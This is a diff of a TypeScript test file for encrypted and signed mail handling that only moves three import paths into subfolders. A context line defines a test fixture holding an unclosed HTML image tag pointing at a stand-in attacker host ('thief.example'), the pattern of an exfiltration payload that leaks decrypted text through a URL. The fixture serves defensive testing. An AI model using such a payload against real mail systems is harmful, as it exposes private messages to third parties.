@@ -2,7 +2,7 @@
 import assert from "node:assert/strict";
 import { test, type TestContext } from "node:test";
 import { type Bytes, utf8, view } from "#base";
-import { acceptAnyway } from "../support/accepted-anyway.ts";
+import { acceptAnyway } from "../support/crypto/accepted-anyway.ts";
 import {
   correspondent,
   entity,
@@ -11,7 +11,7 @@ import {
   sealed,
   sealedCms,
   signed,
-} from "../support/correspondents.ts";
+} from "../support/programs/correspondents.ts";
 import { newServer } from "../support/server.ts";
 import {
   heldCodes,
@@ -22,7 +22,7 @@ import {
   readNewest,
   sealedTeam,
   TEAM,
-} from "../support/sealed-team.ts";
+} from "../support/lists/sealed-team.ts";
 
 const HTML = entity('<img src="https://thief.example/?', [["Content-Type", "text/html"]]);
 const OPEN = { gpg_post_sign: "no", smime_post_sign: "no" } as const;
